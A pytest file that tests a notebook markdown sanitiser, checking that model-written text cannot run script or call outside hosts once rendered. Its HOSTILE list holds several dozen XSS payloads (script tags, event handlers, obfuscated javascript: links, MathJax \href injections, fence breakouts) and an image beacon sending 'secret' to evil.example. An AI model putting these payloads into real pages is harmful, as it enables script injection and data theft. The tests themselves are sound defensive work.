"""Nothing that a model writes can act in a notebook, and what is harmless looks as it should."""

import re
from html.parser import HTMLParser

import pytest

from convergio_jupyter.notebook.safe_markdown import to_chat_markdown, to_html, to_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onclick=alert(1)>x</b>",
    "<svg/onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![pixel](http://evil.example/?q=secret)",
    '![x](x "onerror=alert(1)")',
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\require{x}\\class{y}{z}$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\$\\\\href{javascript:alert(1)}{x}\\$",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    '```html"><script>alert(1)</script>\nx\n```',
    '<a href="//evil.example" data-commandlinker-command="x">x</a>',
    "<form id=document><input name=cookie></form>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "$<script>alert(1)</script>$",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "a\u2028<script>alert(1)</script>",
]
ALLOWED = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "a",
    "table", "thead", "tbody", "tr", "th", "td", "br", "hr", "del", "span", "div",
}  # fmt: skip


class Reader(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_can_act(text):
    reader = Reader()
    reader.feed(to_html(text))
    for tag, attributes in reader.tags:
        assert tag in ALLOWED, text
        assert set(attributes) <= {"href", "class", "style", "title", "start"}, text
        assert attributes.get("class", "math").startswith(("math", "language-")), text
        assert re.fullmatch(r"(text-align:\w+)?", attributes.get("style", "") or ""), text
        if "href" in attributes:
            assert attributes["href"].lower().startswith(("http://", "https://", "mailto:")), text


@pytest.mark.parametrize("text", [each for each in HOSTILE if "href" in each or "require" in each])
def test_formulas_cannot_reach_out(text):
    assert not re.search(r"\\(href|require|class)\b", to_html(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_markdown_twin_is_harmless_too(text):
    """Whatever reads it, there is no tag, no image and no link left in it that is not plain text."""
    twin = to_markdown(text)
    if twin != text:
        assert not re.search(r"(?<!\\)[<\[`$]", twin)
    else:
        assert not re.search(r"<[A-Za-z/!]|!\[|javascript:", twin)


def test_what_is_harmless_keeps_its_form():
    text = "# Squares\n\n1. **one**\n2. `a < b`\n\n| a | $b$ |\n|---|---|\n| 1 | $\\frac12$ |\n\n$$\nx^2\n$$\n"
    html = to_html(text)
    for piece in ("<h1>Squares</h1>", "<strong>one</strong>", "a &lt; b", "<table>", "\\frac12", "x^2"):
        assert piece in html
    assert to_markdown(text) == text


def test_both_ways_to_write_a_formula_are_read():
    html = to_html("Inline \\(a_1 + b_2\\) and\n\\[ \\int_0^1 x \\]\nbut `\\(code\\)` stays.")
    assert "a_1 + b_2" in html
    assert "\\int_0^1 x" in html
    assert html.count('class="math"') == 2
    assert "\\(code\\)" in html


def test_a_link_to_a_page_is_a_link():
    assert '<a href="https://example.org/a?b=1&amp;c=2">' in to_html("[x](https://example.org/a?b=1&c=2)")


@pytest.mark.parametrize("fence", ["```mermaid", "~~~ Mermaid", "- `````mermaid", "> ```MERMAID x"])
@pytest.mark.parametrize("made", [to_markdown, to_chat_markdown])
def test_a_diagram_that_jupyterlab_would_draw_stays_source(made, fence):
    """Its drawings may hold images, which would tell their host."""
    assert "mermaid" not in made(f'{fence}\nflowchart TD\n A@{{ img: "http://tracker.invalid/p.png" }}\n').casefold()
